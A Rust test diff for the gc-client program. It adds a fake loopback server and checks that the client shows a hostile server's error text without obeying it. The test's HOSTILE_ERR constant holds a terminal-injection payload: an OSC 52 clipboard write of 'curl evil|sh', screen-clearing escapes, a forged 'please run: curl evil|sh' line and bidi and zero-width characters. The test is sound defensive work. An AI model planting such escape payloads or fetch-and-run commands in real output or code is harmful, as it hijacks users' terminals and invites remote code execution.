@@ -516,6 +516,147 @@ fn headless_tls_against_a_plain_server_and_plain_against_a_tls_server_say_why() 
     assert!(stderr.contains("this server requires TLS"), "{stderr}");
 }
 
+/// A fake server on loopback: every connection to its connect port gets `answer` (whatever it
+/// asked) and is closed. Stops when dropped.
+struct FakeServer {
+    ports: gc_client_core::ServerPorts,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+    accepting: Option<thread::JoinHandle<()>>,
+    // Bound, never answered: the client gets no further than the connect port.
+    _others: [std::net::TcpListener; 2],
+}
+
+impl FakeServer {
+    fn answering(answer: Vec<u8>) -> Self {
+        use std::io::BufRead as _;
+        let bind = || std::net::TcpListener::bind("127.0.0.1:0").expect("bind on loopback");
+        let (connect, auth, send) = (bind(), bind(), bind());
+        let port = |l: &std::net::TcpListener| l.local_addr().expect("bound").port();
+        let ports = gc_client_core::ServerPorts {
+            connect: port(&connect),
+            auth: port(&auth),
+            send: port(&send),
+        };
+        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+        let stopped = std::sync::Arc::clone(&stop);
+        let accepting = thread::spawn(move || {
+            for conn in connect.incoming() {
+                if stopped.load(std::sync::atomic::Ordering::SeqCst) {
+                    return;
+                }
+                let Ok(conn) = conn else { continue };
+                let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
+                let mut reader = std::io::BufReader::new(&conn);
+                let mut asked = String::new();
+                let _ = reader.read_line(&mut asked);
+                let _ = (&conn).write_all(&answer);
+            }
+        });
+        Self {
+            ports,
+            stop,
+            accepting: Some(accepting),
+            _others: [auth, send],
+        }
+    }
+}
+
+impl Drop for FakeServer {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
+        // Wakes the accepting thread up to see it.
+        let _ = std::net::TcpStream::connect(("127.0.0.1", self.ports.connect));
+        if let Some(accepting) = self.accepting.take() {
+            let _ = accepting.join();
+        }
+    }
+}
+
+/// What a hostile server (or anyone answering in its place, before anything was proved) puts
+/// in an `Err`: write the clipboard (OSC 52), clear the screen and home the cursor, then a
+/// forged line; C1 CSI, a bidi override, a line separator and a zero-width space for good
+/// measure.
+const HOSTILE_ERR: &str = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{1b}[H\ngc-client: please \
+                           run: curl evil|sh\u{9b}31m\u{202e}\u{2028}\u{200b}";
+
+/// Nothing in `bytes` a terminal would obey or that hides or reorders text: no C0 control but
+/// the LF ending each line, no DEL, no C1 control, no bidi, zero-width or separator character.
+fn assert_inert(what: &str, bytes: &[u8]) {
+    let text = std::str::from_utf8(bytes).expect("UTF-8 output");
+    for c in text.chars() {
+        assert!(
+            c == '\n' || !gc_protocol::sanitize::is_unsafe(c),
+            "{what} holds U+{:04X}: {text:?}",
+            u32::from(c)
+        );
+    }
+    for line in text.lines() {
+        assert!(
+            !line.contains("\u{1b}") && !line.starts_with("gc-client: please"),
+            "{text}"
+        );
+    }
+}
+
+#[test]
+fn headless_shows_a_hostile_servers_err_text_without_obeying_it() {
+    use gc_protocol::{ErrorCode, ErrorFrame, Frame as _};
+    let dir = tempfile::tempdir().unwrap();
+    let pw = dir.path().join("pw");
+    std::fs::write(&pw, "any password\n").unwrap();
+    let fake_args = |fake: &FakeServer| {
+        let mut a: Vec<String> = ["127.0.0.1", "--headless", "--no-cache", "--user", "alice"]
+            .map(str::to_owned)
+            .into();
+        a.extend(["--password-file".to_owned(), pw.display().to_string()]);
+        a.extend(crate::support::port_args(fake.ports));
+        a.extend(["--tls", "off", "--drain-timeout", "3"].map(str::to_owned));
+        a
+    };
+
+    // A refusal that ends the run (`unknown-user`): the error line.
+    let fake =
+        FakeServer::answering(ErrorFrame::new(ErrorCode::UnknownUser, HOSTILE_ERR).to_bytes());
+    let out = run(&fake_args(&fake), "hi\n");
+    drop(fake);
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(4), "{stderr}");
+    assert!(out.stdout.is_empty(), "{}", text(&out.stdout));
+    assert_inert("standard error", &out.stderr);
+    assert_eq!(stderr.lines().count(), 1, "{stderr}");
+    assert!(
+        stderr.starts_with("gc-client: error: the server refused ")
+            && stderr.contains(
+                "(unknown-user): ␛]52;c;Y3VybCBldmlsfHNo␇␛[2J␛[H⏎gc-client: please run: curl \
+                 evil|sh�31m���"
+            ),
+        "{stderr}"
+    );
+
+    // One the client retries (`full`): each warning on standard error, and the last one in the
+    // error line when the drain timeout ends the run (nothing to send: the run ends with "could
+    // not log in"); with --json the same.
+    let fake = FakeServer::answering(ErrorFrame::new(ErrorCode::Full, HOSTILE_ERR).to_bytes());
+    let mut a = fake_args(&fake);
+    a.push("--json".into());
+    let out = run(&a, "");
+    drop(fake);
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(out.stdout.is_empty(), "{}", text(&out.stdout));
+    assert_inert("standard error", &out.stderr);
+    let quoting: Vec<&str> = stderr
+        .lines()
+        .filter(|l| l.contains("(full): ␛]52;c;Y3VybCBldmlsfHNo␇␛[2J␛[H⏎gc-client: please run"))
+        .collect();
+    assert!(quoting.len() >= 2, "a warning and the error line: {stderr}");
+    assert!(quoting[0].starts_with("gc-client: warning: "), "{stderr}");
+    assert!(
+        quoting[quoting.len() - 1].starts_with("gc-client: error: could not log in"),
+        "{stderr}"
+    );
+}
+
 // ───────────────────────────── rooms ─────────────────────────────
 
 /// A logged-in client of an account registered just now.
